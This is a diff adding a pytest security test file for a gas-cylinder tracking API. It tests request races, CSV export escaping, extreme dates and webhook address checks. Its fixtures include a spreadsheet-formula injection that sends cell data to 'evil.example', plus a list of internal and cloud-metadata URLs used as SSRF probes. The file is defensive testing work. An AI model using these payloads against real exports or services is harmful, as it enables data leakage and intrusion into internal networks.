@@ -1,0 +1,240 @@
+"""The trust round, as an attacker from outside would try it: concurrent clients, a spreadsheet
+formula in a field, webhooks aimed inside the network, dates at the calendar's end, a forged
+label on the phone and the public page, refusals that went uncounted. Each test is the attack;
+docs/security.md lists them with what stops each one."""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import threading
+from collections.abc import Callable, Iterator
+from concurrent.futures import ThreadPoolExecutor
+from typing import Any
+
+import pytest
+from sqlalchemy import text
+
+from cylinder_trace.config import get_settings
+from cylinder_trace.db import get_engine
+from tests.api.test_health_and_errors import assert_problem
+from tests.api.test_jobs import Receiver
+from tests.api.test_lifecycle import co, customer, full_cylinder  # noqa: F401 (fixture)
+from tests.factories import GOOD
+
+
+def count(sql: str, **params: Any) -> int:
+    with get_engine().connect() as conn:
+        return int(conn.execute(text(sql), params).scalar() or 0)
+
+
+# --- races ---------------------------------------------------------------------------------------
+
+def test_six_concurrent_dispatches_of_one_cylinder(world: Any, co: Any) -> None:  # noqa: F811
+    cust = customer(world, co)
+    c = full_cylinder(world, co)
+    body = {"worker_id": co["worker"]["id"], "vehicle_id": co["vehicle"]["id"],
+            "customer_id": cust["id"], "codes": [c["code"]]}
+    start = threading.Barrier(6)
+
+    def post(_: int) -> Any:
+        start.wait()
+        return world.client.post("/api/v1/deliveries", headers=co["admin"]["headers"], json=body)
+
+    with ThreadPoolExecutor(max_workers=6) as pool:
+        answers = list(pool.map(post, range(6)))
+    assert sorted(r.status_code for r in answers) == [201, 409, 409, 409, 409, 409]
+    for r in answers:
+        if r.status_code == 409:
+            assert_problem(r, 409)
+    assert count("SELECT count(*) FROM delivery WHERE :code = ANY(codes)", code=c["code"]) == 1
+    assert count("SELECT count(*) FROM cylinder_event e JOIN cylinder c ON c.id = e.cylinder_id "
+                 "WHERE c.code = :code AND e.kind = 'dispatched'", code=c["code"]) == 1
+
+
+# --- leaks ---------------------------------------------------------------------------------------
+
+def test_a_manufacturer_named_like_a_spreadsheet_formula(world: Any) -> None:
+    e = world.enterprise()
+    evil = '=HYPERLINK("http://evil.example/?"&A2,"click")'
+    world.cylinder(e["id"], manufacturer=evil, serial_number="+1-555", **GOOD)
+    world.cylinder(e["id"], manufacturer="@SUM(1)", serial_number="-2", **GOOD)
+    world.cylinder(e["id"], manufacturer="plain", serial_number="P-1", **GOOD)
+    r = world.client.get("/api/v1/cylinders.csv", headers=world.admin)
+    assert r.status_code == 200, r.text
+    rows = list(csv.DictReader(io.StringIO(r.text.lstrip("\ufeff"))))
+    cells = {row["manufacturer"] for row in rows} | {row["serial_number"] for row in rows}
+    assert "'" + evil in cells and "'+1-555" in cells and "'@SUM(1)" in cells
+    assert "'-2" in cells and "plain" in cells
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+
+
+# --- bad input that answered 500 -----------------------------------------------------------------
+
+def test_epcis_events_at_the_end_of_the_calendar(world: Any) -> None:
+    for since, until in (("9999-12-31", "9999-12-31"), ("9999-01-01", "9999-12-31"),
+                         ("0001-01-01", "0001-01-02")):
+        r = world.client.get("/api/v1/epcis/events", params={"since": since, "until": until},
+                             headers=world.admin)
+        assert r.status_code == 200, (since, r.text)
+        assert r.json()["epcisBody"]["eventList"] == []
+
+
+def test_a_cylinder_inspected_in_the_year_9999(world: Any) -> None:
+    e = world.enterprise()
+    for last in ("9999-06-01", "9999-12-31"):
+        r = world.client.post("/api/v1/cylinders", headers=world.admin, json={
+            "owner_enterprise_id": e["id"], "manufacturer": "百工", "serial_number": f"F-{last}",
+            "model": "YSP-35.5", "manufacture_date": "2022-03-01", "last_inspection_date": last})
+        assert assert_problem(r, 422)["reason"] == "DATE_IN_FUTURE"
+    # a due date at the calendar's end is a date, not a crash
+    r = world.client.post("/api/v1/cylinders", headers=world.admin, json={
+        "owner_enterprise_id": e["id"], "manufacturer": "百工", "serial_number": "F-due",
+        "model": "YSP-35.5", "manufacture_date": "2022-03-01", "next_inspection_due": "9999-12-31"})
+    assert r.status_code == 201, r.text
+    assert count("SELECT count(*) FROM cylinder") == 1
+
+
+def test_a_csv_import_with_a_row_inspected_in_the_year_9999(world: Any) -> None:
+    e = world.enterprise()
+    data = ("manufacturer,serial_number,model,manufacture_date,last_inspection_date\n"
+            "百工,Y-1,YSP-12,2021-01-05,9999-06-01\n"
+            "百工,Y-2,YSP-12,2021-01-05,2021-06-01\n").encode()
+    r = world.client.post(f"/api/v1/cylinders/import?owner_enterprise_id={e['id']}",
+                          content=data, headers={**world.admin, "Content-Type": "text/csv"})
+    assert r.status_code == 200, r.text
+    report = r.json()
+    assert report["imported"] == 1 and report["rejected"] == 1
+    assert [(x["row"], x["field"]) for x in report["errors"]] == [(2, "last_inspection_date")]
+
+
+# --- webhooks ------------------------------------------------------------------------------------
+
+@pytest.fixture
+def receiver() -> Iterator[Receiver]:
+    r = Receiver()
+    yield r
+    r.server.shutdown()
+
+
+@pytest.fixture
+def allow_hosts() -> Iterator[Callable[[str], None]]:
+    """Set the internal hosts webhooks may reach, for one test (the suite lists 127.0.0.1)."""
+    before = os.environ.get("CYLINDER_TRACE_WEBHOOK_ALLOWED_HOSTS")
+
+    def set_to(value: str) -> None:
+        os.environ["CYLINDER_TRACE_WEBHOOK_ALLOWED_HOSTS"] = value
+        get_settings.cache_clear()
+
+    yield set_to
+    if before is None:
+        os.environ.pop("CYLINDER_TRACE_WEBHOOK_ALLOWED_HOSTS", None)
+    else:
+        os.environ["CYLINDER_TRACE_WEBHOOK_ALLOWED_HOSTS"] = before
+    get_settings.cache_clear()
+
+
+def test_a_company_aims_its_webhook_inside_the_network(world: Any,
+                                                       allow_hosts: Callable[[str], None]) -> None:
+    e = world.enterprise()
+    admin = world.user("enterprise_admin", e["id"])
+    allow_hosts("")  # as deployed: no internal host listed
+    inside = ["http://169.254.169.254/latest/meta-data/", "http://10.0.0.1/",
+              "http://localhost:5432/", "http://127.0.0.2/", "http://[::1]/",
+              "http://[::ffff:127.0.0.1]/", "http://0.0.0.0/", "http://100.64.0.1/",
+              "http://192.168.1.1/", "http://240.0.0.1/", "http://224.0.0.1/",
+              "http://2130706433/"]
+    for url in inside:
+        r = world.client.post("/api/v1/webhooks", json={"url": url}, headers=admin["headers"])
+        assert assert_problem(r, 422)["reason"] == "WEBHOOK_ADDRESS_REFUSED", url
+    for url in ("http://a:b:c/", "http://user:pw@93.184.215.14/", "ftp://93.184.215.14/",
+                "http://exa mple.com/", "http:///nohost", "http://93.184.215.14:0/"):
+        r = world.client.post("/api/v1/webhooks", json={"url": url}, headers=admin["headers"])
+        assert assert_problem(r, 422)["reason"] == "BAD_URL", url
+    bad = world.client.post("/api/v1/enterprises", headers=world.admin, json={
+        "name": "x", "credit_code": "91500000MA0000999X", "region_code": "500103",
+        "webhook_url": "http://10.0.0.1/"})
+    assert bad.status_code == 422, bad.text
+    assert count("SELECT count(*) FROM webhook") == 0
+    # a public address is a receiver (registration resolves a literal: no traffic is sent)
+    r = world.client.post("/api/v1/webhooks", json={"url": "https://93.184.215.14/hook"},
+                          headers=admin["headers"])
+    assert r.status_code == 201, r.text
+    # and an operator may list an internal host of its own network
+    allow_hosts("10.0.0.0/8")
+    r = world.client.post("/api/v1/webhooks", json={"url": "http://10.0.0.1/"},
+                          headers=admin["headers"])
+    assert r.status_code == 201, r.text
+
+
+def _seize(world: Any, code: str) -> None:
+    regulator = world.user("regulator", region_codes=["500000"])
+    r = world.client.post(f"/api/v1/cylinders/{code}/seizure", headers=regulator["headers"],
+                          json={"reason": "检查"})
+    assert r.status_code == 200, r.text
+
+
+def _deliver(world: Any) -> dict[str, Any]:
+    r = world.client.post("/api/v1/jobs/deliver_notifications/run", headers=world.admin)
+    assert r.status_code == 200, r.text
+    assert r.json()["last_status"] == "ok", r.json()
+    return dict(r.json()["last_result"])
+
+
+def test_a_receiver_that_turns_internal_after_registration(
+        world: Any, receiver: Receiver, allow_hosts: Callable[[str], None]) -> None:
+    e = world.enterprise()
+    admin = world.user("enterprise_admin", e["id"])
+    r = world.client.post("/api/v1/webhooks", json={"url": receiver.url},
+                          headers=admin["headers"])
+    assert r.status_code == 201, r.text
+    _seize(world, world.cylinder(e["id"], **GOOD)["code"])
+    allow_hosts("")  # what resolved to an allowed address then resolves to a refused one now
+    assert _deliver(world) == {"delivered": 0, "retry": 1, "dead": 0}
+    assert receiver.received == []
+    assert count("SELECT count(*) FROM notification_delivery "
+                 "WHERE last_error = 'ADDRESS_REFUSED'") == 1
+
+
+def test_one_companys_malformed_webhook_does_not_stop_the_others(world: Any,
+                                                                   receiver: Receiver) -> None:
+    e = world.enterprise()
+    admin = world.user("enterprise_admin", e["id"])
+    r = world.client.post("/api/v1/webhooks", json={"url": receiver.url},
+                          headers=admin["headers"])
+    assert r.status_code == 201, r.text
+    with get_engine().begin() as conn:  # registered before URLs were checked
+        conn.execute(text("INSERT INTO webhook (id, enterprise_id, url, secret, active) "
+                          "VALUES (gen_random_uuid(), :e, 'http://a:b:c/', 's', true)"),
+                     {"e": e["id"]})
+    _seize(world, world.cylinder(e["id"], **GOOD)["code"])
+    with get_engine().begin() as conn:  # the bad one is first in line
+        conn.execute(text("UPDATE notification_delivery d SET next_attempt_at = "
+                          "next_attempt_at - interval '1 minute' FROM webhook w "
+                          "WHERE w.id = d.webhook_id AND w.url = 'http://a:b:c/'"))
+    assert _deliver(world) == {"delivered": 1, "retry": 1, "dead": 0}
+    assert [n["kind"] for n in receiver.received] == ["cylinder_seized"]
+
+
+def test_a_regulators_recall_is_news_to_the_company_whose_cylinders_it_caught(
+        world: Any, receiver: Receiver) -> None:
+    a, b = world.enterprise(), world.enterprise()
+    admin_a = world.user("enterprise_admin", a["id"])
+    r = world.client.post("/api/v1/webhooks", json={"url": receiver.url},
+                          headers=admin_a["headers"])
+    assert r.status_code == 201, r.text
+    mine = world.cylinder(a["id"], **GOOD)
+    world.cylinder(b["id"], **GOOD)
+    regulator = world.user("regulator", region_codes=["500000"])
+    r = world.client.post("/api/v1/recalls", headers=regulator["headers"], json={
+        "reason": "阀门缺陷", "criteria": {"codes": [mine["code"]]}})
+    assert r.status_code == 201, r.text
+    seen = world.client.get("/api/v1/notifications", headers=admin_a["headers"]).json()
+    assert [n["kind"] for n in seen] == ["recall_started"]
+    admin_b = world.user("enterprise_admin", b["id"])
+    assert world.client.get("/api/v1/notifications", headers=admin_b["headers"]).json() == []
+    assert _deliver(world)["delivered"] == 1
+    assert [n["kind"] for n in receiver.received] == ["recall_started"]
